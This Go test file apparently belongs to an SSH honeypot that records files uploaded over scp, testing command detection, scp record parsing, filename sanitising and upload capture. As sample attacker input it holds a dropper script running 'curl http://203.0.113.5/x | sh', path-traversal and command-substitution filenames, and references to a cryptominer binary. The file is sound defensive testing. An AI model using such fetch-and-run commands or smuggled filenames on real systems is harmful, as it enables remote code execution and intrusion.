package main

import (
	"bytes"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

type scriptedPeer struct {
	io.Reader
	acks bytes.Buffer
}

func (p *scriptedPeer) Write(b []byte) (int, error) { return p.acks.Write(b) }

func TestIsSCPSink(t *testing.T) {
	tests := []struct {
		cmd  string
		want bool
	}{
		{"scp -t /tmp", true},
		{"scp -qt .", true},
		{"scp -v -p -t /root/.ssh", true},
		{"scp -f /etc/passwd", false},
		{"scp -pt .", true},
		{"scp -P 2222 -t .", true},
		{"scp -o StrictHostKeyChecking=no -t /tmp", true},
		{"scp -oStrictHostKeyChecking=no -f x", false},
		{"scp -o StrictHostKeyChecking=no -f x", false},
		{"scp -i t -f x", false},
		{"scp -F /etc/ssh/ssh_config -f x", false},
		{"scp", false},
		{"echo scp -t", false},
		{"", false},
	}
	for _, tt := range tests {
		require.Equal(t, tt.want, isSCPSink(tt.cmd), tt.cmd)
	}
}

func TestReceiveSCP(t *testing.T) {
	peer := &scriptedPeer{Reader: strings.NewReader("C0755 5 ../../bin/evil.sh\nhello\x00")}
	up, err := receiveSCP(peer)
	require.NoError(t, err)
	require.Equal(t, "evil.sh", up.name)
	require.Equal(t, "hello", string(up.data))
	require.Equal(t, []byte{0, 0, 0}, peer.acks.Bytes())
}

func TestReceiveSCPWithTimestamp(t *testing.T) {
	peer := &scriptedPeer{Reader: strings.NewReader("T1700000000 0 1700000000 0\nC0644 2 a\nhi\x00")}
	up, err := receiveSCP(peer)
	require.NoError(t, err)
	require.Equal(t, "a", up.name)
	require.Equal(t, "hi", string(up.data))
	require.Equal(t, []byte{0, 0, 0, 0}, peer.acks.Bytes())
}

func TestReceiveSCPRejects(t *testing.T) {
	tests := []struct {
		name  string
		input string
		want  error
	}{
		{"directory record", "D0755 0 dir\n", errSCPHeader},
		{"short header", "C0644 5\n", errSCPHeader},
		{"bad size", "C0644 lots f\n", errSCPSize},
		{"too large", fmt.Sprintf("C0644 %d f\n", scpMaxSize+1), errSCPSize},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := receiveSCP(&scriptedPeer{Reader: strings.NewReader(tt.input)})
			require.ErrorIs(t, err, tt.want)
		})
	}

	_, err := receiveSCP(&scriptedPeer{Reader: strings.NewReader("C0644 10 f\nshort")})
	require.ErrorContains(t, err, "read data")
}

func TestSafeUploadName(t *testing.T) {
	require.Equal(t, "evil.sh", safeUploadName("/tmp/../evil.sh"))
	require.Equal(t, "bashrc", safeUploadName(".bashrc"))
	require.Equal(t, "xmrig-6.21_x64", safeUploadName("xmrig-6.21_x64"))
	require.Equal(t, "ab", safeUploadName("a$(b)"))
	require.True(t, strings.HasPrefix(safeUploadName("..."), "upload_"))
}

func TestServerCapturesSCPUpload(t *testing.T) {
	ts := startTestServer(t, nil)
	client := ts.dial(t)
	defer client.Close()

	sess := mustSession(t, client)
	stdin, err := sess.StdinPipe()
	require.NoError(t, err)
	require.NoError(t, sess.Start("scp -t /tmp"))

	payload := "#!/bin/sh\ncurl http://203.0.113.5/x | sh\n"
	_, err = fmt.Fprintf(stdin, "C0755 %d dropper.sh\n%s\x00", len(payload), payload)
	require.NoError(t, err)
	require.NoError(t, sess.Wait())

	uploads := ts.waitFor(t, catUpload)
	want := fmt.Sprintf("dropper.sh %d sha256:%x", len(payload), sha256.Sum256([]byte(payload)))
	require.Equal(t, want, uploads[0].Message)

	saved, err := os.ReadFile(filepath.Join(ts.cfg.uploadDir(), uploads[0].Session, "dropper.sh"))
	require.NoError(t, err)
	require.Equal(t, payload, string(saved))
}
